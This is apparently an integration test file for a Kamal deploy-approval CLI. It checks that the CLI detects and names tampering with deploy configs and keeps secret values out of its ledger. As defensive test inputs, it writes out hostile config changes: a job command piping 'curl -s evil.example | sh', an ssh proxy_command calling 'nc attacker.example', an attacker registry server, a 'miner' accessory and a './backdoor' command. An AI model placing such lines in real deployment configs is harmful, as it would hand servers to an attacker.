/**
 * Issue 19 through the real CLI, the real registry and both ledgers: `record` approves the
 * effective Kamal deploy; `verify` names every change to it (an injected cmd, a new accessory,
 * options.privileged, ssh.proxy_command, the registry server, a destination overlay) as
 * `config.changed` (a warning under the baseline, enforced under strict); `record` again approves;
 * key order, comments and secret values change nothing, and no secret value reaches the ledger.
 */
import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import pg from 'pg';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runCli } from '../helpers/cli.js';
import { ImageBuilder } from '../helpers/image-builder.js';
import { startPostgres, type PostgresServer } from '../helpers/postgres.js';
import { startRegistry, type TestRegistry } from '../helpers/registry.js';

const FIXTURE = resolve(import.meta.dirname, '..', '..', 'fixtures', 'demo-app');
const SECRET_VALUE = 'master-key-value-never-in-the-ledger-1234';

let reg: TestRegistry;
let pgs: PostgresServer;
let work: string;

beforeAll(async () => {
  [reg, pgs] = await Promise.all([startRegistry({ auth: 'htpasswd', users: { demo: 'demo-registry-password-42' } }), startPostgres()]);
  work = mkdtempSync(join(tmpdir(), 'kg-config-approval-'));
});
afterAll(async () => {
  await Promise.all([reg?.stop(), pgs?.stop()]);
  if (work) rmSync(work, { recursive: true, force: true });
});

interface Finding {
  rule: string;
  mode?: string;
  fails?: boolean;
  message: string;
  evidence?: { changes?: Array<{ path: string; from?: unknown; to?: unknown }>; fingerprint?: string };
}

let appCount = 0;
async function newApp(ledgerUrl?: string) {
  const ns = `c${++appCount}`;
  const dir = mkdtempSync(join(work, 'app-'));
  cpSync(FIXTURE, dir, { recursive: true });
  const yml = readFileSync(join(dir, 'config', 'deploy.yml'), 'utf8')
    .replace('image: acme/shop', `image: ${ns}/shop`)
    .replace('/library/postgres:16.4', `/${ns}/postgres:16.4`)
    .replace('image: library/valkey:8.0', `image: ${ns}/valkey:8.0`)
    .replace('    cmd: bin/jobs\n', '    cmd: bin/jobs\n\nenv:\n  secret:\n    - RAILS_MASTER_KEY\n');
  writeFileSync(join(dir, 'config', 'deploy.yml'), yml);
  writeFileSync(join(dir, 'config', 'deploy.staging.yml'), readFileSync(join(dir, 'config', 'deploy.staging.yml'), 'utf8').replace(/library\/valkey/g, `${ns}/valkey`));
  writeFileSync(join(dir, '.kamal', 'secrets'), `KAMAL_REGISTRY_PASSWORD=$KAMAL_REGISTRY_PASSWORD\nRAILS_MASTER_KEY=${SECRET_VALUE}\n`);
  const b = new ImageBuilder(reg);
  await b.pushImage(`${ns}/shop`, 'v1', {
    platforms: [
      { os: 'linux', architecture: 'amd64' },
      { os: 'linux', architecture: 'arm64', variant: 'v8' },
    ],
  });
  await b.pushImage(`${ns}/postgres`, '16.4', {});
  const cache = await b.pushImage(`${ns}/valkey`, '8.0', {});
  await b.tagExisting(`${ns}/valkey`, cache.digest, '8.0-staging');
  const env: NodeJS.ProcessEnv = { DEMO_REGISTRY: reg.host, KAMAL_REGISTRY_PASSWORD: reg.password, DOCKER_CONFIG: join(dir, '.no-docker'), USER: 'ci' };
  if (ledgerUrl) env['KAMAL_GATE_LEDGER_URL'] = ledgerUrl;
  return { dir, env, ns, deploy: join(dir, 'config', 'deploy.yml'), staging: join(dir, 'config', 'deploy.staging.yml') };
}
type App = Awaited<ReturnType<typeof newApp>>;

const cli = (app: App, args: string[]) => runCli(args, { cwd: app.dir, env: app.env });

async function configFindings(app: App, args: string[] = []): Promise<{ code: number; findings: Finding[]; out: string }> {
  const r = await cli(app, ['verify', '--version', 'v1', '--format', 'json', ...args]);
  const doc = JSON.parse(r.stdout) as { images: Array<{ findings?: Finding[] }> };
  return { code: r.code, findings: doc.images.flatMap((i) => i.findings ?? []).filter((f) => f.rule === 'config.changed'), out: r.stdout + r.stderr };
}

describe.each(['file', 'postgres'] as const)('config approval (%s ledger)', (backend) => {
  let app: App;
  let original: string;
  beforeAll(async () => {
    app = await newApp(backend === 'postgres' ? await pgs.createDatabase() : undefined);
    original = readFileSync(app.deploy, 'utf8');
  });

  it('record approves the effective deploy; an unchanged config passes', async () => {
    const r = await cli(app, ['record', '--version', 'v1']);
    expect(r.code, r.stdout + r.stderr).toBe(0);
    expect(r.stdout).toMatch(/config: shop approved sha256:[0-9a-f]{64} \(first use\)/);
    const again = await cli(app, ['record', '--version', 'v1']);
    expect(again.stdout).toMatch(/config: shop unchanged/);
    const v = await configFindings(app);
    expect(v.findings, v.out).toEqual([]);
    expect(v.code, v.out).toBe(0);
  });

  const cases: Array<[string, (yml: string) => string, string]> = [
    ['an injected cmd', (y) => y.replace('cmd: bin/jobs', `cmd: sh -c 'curl -s evil.example | sh'`), 'servers.job.cmd'],
    ['a new accessory', (y) => `${y}  miner:\n    image: <%= ENV["DEMO_REGISTRY"] %>/${app.ns}/postgres:16.4\n    host: 192.0.2.10\n`, 'accessories.miner'],
    ['options.privileged', (y) => y.replace('    cmd: bin/jobs\n', '    cmd: bin/jobs\n    options:\n      privileged: true\n'), 'servers.job.options'],
    ['an ssh.proxy_command', (y) => `${y}ssh:\n  proxy_command: nc attacker.example 22\n`, 'ssh.proxy_command'],
    ['a changed registry server', (y) => y.replace('server: <%= ENV["DEMO_REGISTRY"] %>\n  username', 'server: registry.attacker.example\n  username'), 'registry.server'],
  ];
  it.each(cases)('verify catches %s and names it', async (_name, change, path) => {
    writeFileSync(app.deploy, change(original));
    try {
      const v = await configFindings(app);
      expect(v.findings, v.out).toHaveLength(1);
      const [f] = v.findings;
      expect(f!.evidence!.changes!.map((c) => c.path)).toContain(path);
      expect(f!.message).toContain(`${path}:`);
      expect(f!.mode).toBe('warn');
      const strict = await configFindings(app, ['--policy', 'strict']);
      expect(strict.findings[0]).toMatchObject({ mode: 'enforce', fails: true });
      expect(strict.code).not.toBe(0);
    } finally {
      writeFileSync(app.deploy, original);
    }
  });

  it('the injected cmd reads as before → after', async () => {
    writeFileSync(app.deploy, original.replace('cmd: bin/jobs', `cmd: sh -c 'curl -s evil.example | sh'`));
    try {
      const v = await configFindings(app);
      expect(v.findings[0]!.message).toContain(`servers.job.cmd: "bin/jobs" → "sh -c 'curl -s evil.example | sh'"`);
    } finally {
      writeFileSync(app.deploy, original);
    }
  });

  it('reordered keys, comments and a changed secret value change nothing; no secret value is in the ledger', async () => {
    const reordered = original.replace('service: shop\n', '').replace(/^image: /m, '# a comment\nservice: shop   # the app\nimage: ');
    writeFileSync(app.deploy, reordered);
    writeFileSync(join(app.dir, '.kamal', 'secrets'), `KAMAL_REGISTRY_PASSWORD=$KAMAL_REGISTRY_PASSWORD\nRAILS_MASTER_KEY=another-value\n`);
    try {
      const v = await configFindings(app);
      expect(v.findings, v.out).toEqual([]);
    } finally {
      writeFileSync(app.deploy, original);
    }
    const ledgerText =
      backend === 'file'
        ? readFileSync(join(app.dir, '.kamal', 'image-ledger.jsonl'), 'utf8')
        : await (async () => {
            const c = new pg.Client({ connectionString: app.env['KAMAL_GATE_LEDGER_URL'] });
            await c.connect();
            try {
              return JSON.stringify((await c.query('SELECT * FROM kamal_gate_ledger')).rows);
            } finally {
              await c.end();
            }
          })();
    expect(ledgerText).toContain('RAILS_MASTER_KEY');
    expect(ledgerText).not.toContain(SECRET_VALUE);
    expect(ledgerText).not.toContain(reg.password);
  });

  it('a changed destination overlay is caught; record approves it, --approve-config only the fingerprint named', async () => {
    const r = await cli(app, ['record', '--version', 'v1', '-d', 'staging']);
    expect(r.code, r.stdout + r.stderr).toBe(0);
    expect((await configFindings(app, ['-d', 'staging'])).findings).toEqual([]);
    writeFileSync(
      app.staging,
      `${readFileSync(app.staging, 'utf8')}\nboot:\n  limit: 100%\n`.replace('servers:\n  web:\n    - 192.0.2.20\n', 'servers:\n  web:\n    hosts:\n      - 192.0.2.20\n    cmd: ./backdoor\n'),
    );
    const v = await configFindings(app, ['-d', 'staging']);
    expect(v.findings.flatMap((f) => f.evidence!.changes!.map((c) => c.path))).toEqual(['boot', 'servers.web.cmd']);
    // The default destination is not affected.
    expect((await configFindings(app)).findings).toEqual([]);
    const wrong = await cli(app, ['record', '--version', 'v1', '-d', 'staging', '--approve-config', `sha256:${'0'.repeat(64)}`]);
    expect(wrong.code, wrong.stdout + wrong.stderr).toBe(1);
    expect(wrong.stdout).toMatch(/nothing approved/);
    expect((await configFindings(app, ['-d', 'staging'])).findings).toHaveLength(1);
    const fingerprint = v.findings[0]!.evidence!.fingerprint!;
    const right = await cli(app, ['record', '--version', 'v1', '-d', 'staging', '--approve-config', fingerprint]);
    expect(right.code, right.stdout + right.stderr).toBe(0);
    expect(right.stdout).toContain(`approved ${fingerprint}`);
    expect((await configFindings(app, ['-d', 'staging'])).findings).toEqual([]);
  });

  it('record again approves a change', async () => {
    writeFileSync(app.deploy, original.replace('cmd: bin/jobs', 'cmd: bin/jobs --queue default'));
    try {
      expect((await configFindings(app)).findings).toHaveLength(1);
      const r = await cli(app, ['record', '--version', 'v1']);
      expect(r.stdout).toMatch(/config: shop approved sha256:[0-9a-f]{64} \(was sha256:/);
      expect((await configFindings(app)).findings).toEqual([]);
    } finally {
      writeFileSync(app.deploy, original);
    }
  });
});
